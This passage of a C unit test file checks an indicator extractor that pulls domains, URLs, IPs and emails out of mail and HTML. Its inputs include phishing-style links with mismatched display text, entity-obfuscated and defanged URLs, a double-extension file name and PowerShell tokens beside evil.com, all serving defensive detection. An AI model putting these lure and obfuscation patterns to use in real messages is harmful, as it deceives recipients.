        {"invoice[.]pdf[.]exe index(.)php powershell\\.exe System\\.Net\\.Web list[.map(x)] evil\\.com", "domain evil.com"},
        {"References: <a@mail.evil.com>\n <b@mail.evil.com> <c@evil.com>", ""},
        {"logo@2x.png ann@example.comahh ann@intra.local", "email ann@intra.local"},
    };
    check(rows, ARRAY_SIZE(rows));
}

static void originals(void **state)
{
    UNUSED(state);
    struct report *report = report_new("mail");
    struct observation *observation = report_add_observation(report);
    assert_int_equal(extract_observables("go to hxxp://evil[.]example/x, or http://0x7f.1/y", report, observation), 3);
    assert_string_equal(observation->sightings[0].original, "hxxp://evil[.]example/x");
    assert_null(observation->sightings[1].original);
    assert_string_equal(observation->sightings[2].original, "http://0x7f.1/y");
    report_free(report);
}

static void html(void **state)
{
    UNUSED(state);
    static const struct row rows[] = {
        {"<p>Pay at <A HREF='http&#58;//evil.example/x'>bank.example.com</a> or <b>198.51</b>.100.7"
         "<script>http://script.example/</script><form action=\"http://form.example/post\">",
         "domain bank.example.com\n" EVIL_URL "\nipv4 198.51.100.7\nurl http://form.example/post\ndomain form.example"},
        {"<map><area href=http://evil.example/x></map>", EVIL_URL},
        {"<button formaction='http://evil.example/x'>Go</button>", EVIL_URL},
        {"<svg><a xlink:href='http://evil.example/x'>Go</a></svg>", EVIL_URL},
        {"<meta http-equiv=refresh content='0; URL=http://evil.example/x'><meta content='a; url'>", EVIL_URL},
        {"<a href='http://evil.example/x'><button>Go</button></a>", EVIL_URL},
        {"<a href='http&colon;&sol;&sol;evil&period;example&sol;x'>Go</a>", EVIL_URL},
        {"<a href='http:\\\\evil.example\\x'>Go</a>", EVIL_URL},
        {"<a href='//evil.com/x'>Go</a><a href='mailto:ann@evil.example?subject=x'>Ann</a><a href='tel:+4930123456'>Ring</a>",
         "domain evil.com\nemail ann@evil.example\nphone +4930123456"},
        {"<center>a.example.com</center><option>b.example.com<option>c.example.com<label>d.example.com</label>e",
         "domain a.example.com\ndomain b.example.com\ndomain c.example.com\ndomain d.example.com"},
    };
    for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
        struct buf text;
        buf_init(&text, 4096);
        assert_true(html_text(rows[i].text, strlen(rows[i].text), &text));
        const struct row row = {buf_text(&text), rows[i].found};
        check(&row, 1);
        buf_clear(&text);
    }
}

static void bounded(void **state)
{
    UNUSED(state);
    struct buf text;
    buf_init(&text, 1 << 20);
    for (int i = 0; i < EXTRACT_MAX; i++)
        buf_printf(&text, "10.%d.%d.7 10.0.1.7 ", i >> 8, i & 255);
    struct report *report = report_new("mail");
    struct observation *observation = report_add_observation(report);
    assert_int_equal(extract_observables(buf_text(&text), report, observation), EXTRACT_MAX);
    report_free(report);
    buf_add_text(&text, "192.0.2.1");
    report = report_new("mail");
    assert_int_equal(extract_observables(buf_text(&text), report, report_add_observation(report)), EXTRACT_MAX);
    assert_int_equal(report->rejected_total, 1); /* what is left out is told */
    report_free(report);
    buf_reset(&text);
    for (int i = 0; i < 100000; i++)
        buf_add_text(&text, "[(");
    struct report *other = report_new("mail");
    assert_int_equal(extract_observables(buf_text(&text), other, report_add_observation(other)), 0);
    report_free(other);
    buf_reset(&text);
    for (int i = 0; i < 100000; i++)
        buf_add_text(&text, i % 200 ? "(http://a](" : " ");
    clock_t start = clock();
    struct report *links = report_new("mail");
    assert_int_equal(extract_observables(buf_text(&text), links, report_add_observation(links)), 0);
    assert_true(clock() - start < 3 * CLOCKS_PER_SEC); /* each link is looked at once */
    report_free(links);
    buf_clear(&text);
}

/* --- labelled texts: NAME.txt and NAME.found, a line a find --- */

static char *read_file(const char *folder, const char *name)
{
    char *path = mem_printf("%s/%s", folder, name);
    size_t size = 0;
    char *text = file_read(path, &size);
    free(path);
    while (text && size && text[size - 1] == '\n')
        text[--size] = '\0';
    return text;
}

static size_t lines(const char *text)
{
    size_t count = *text != '\0';
    for (; *text; text++)
        count += *text == '\n';
    return count;
}

static bool has_line(const char *text, const char *line, size_t size)
{
    for (; text; text = strchr(text, '\n') ? strchr(text, '\n') + 1 : NULL)
        if (strncmp(text, line, size) == 0 && (text[size] == '\n' || text[size] == '\0'))
            return true;
    return false;
}

static size_t right_of(const char *found, const char *labelled, const char *name)
{
    size_t right = 0;
    for (const char *at = found; *at;) {
        size_t size = strcspn(at, "\n");
        if (has_line(labelled, at, size))
            right++;
        else
            print_message("%s: %.*s is no find\n", name, (int)size, at);
        at += size + (at[size] == '\n');
    }
    return right;
}

static void labelled(void **state)
{
    UNUSED(state);
    static const char folder[] = TEST_DATA "/prose";
    size_t found = 0, right = 0, wanted = 0;
    struct dirent **names;
    int count = scandir(folder, &names, NULL, alphasort);
    assert_true(count > 2);
    for (int i = 0; i < count; i++) {
        if (str_ends(names[i]->d_name, ".txt")) {
            char *label_name = mem_printf("%.*sfound", (int)strlen(names[i]->d_name) - 3, names[i]->d_name);
            char *text = read_file(folder, names[i]->d_name), *label = read_file(folder, label_name);
            assert_non_null(label);
            struct buf out;
            buf_init(&out, 1 << 20);
            extract(text, &out);
            found += lines(buf_text(&out));
            wanted += lines(label);
            right += right_of(buf_text(&out), label, names[i]->d_name);
            buf_clear(&out);
            free(label_name);
            free(text);
            free(label);
        }
        free(names[i]);
    }
    free(names);
    print_message("labelled prose: %zu found, %zu of them right, %zu labelled\n", found, right, wanted);
    assert_true(found >= 60 && right * 100 >= found * 98 && right * 100 >= wanted * 95);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(defanged), cmocka_unit_test(unicode),    cmocka_unit_test(plain),           cmocka_unit_test(lists),
        cmocka_unit_test(gateways), cmocka_unit_test(bare_names), cmocka_unit_test(originals),       cmocka_unit_test(html),
        cmocka_unit_test(bounded),  cmocka_unit_test(labelled),   cmocka_unit_test(long_lists),      cmocka_unit_test(odd_hosts),
        cmocka_unit_test(symbols),  cmocka_unit_test(escaped),    cmocka_unit_test(parts_of_words),  cmocka_unit_test(other_scripts),
        cmocka_unit_test(labels),   cmocka_unit_test(versions),   cmocka_unit_test(grouped_digests), cmocka_unit_test(surroundings)};
    return cmocka_run_group_tests(tests, NULL, NULL);
}
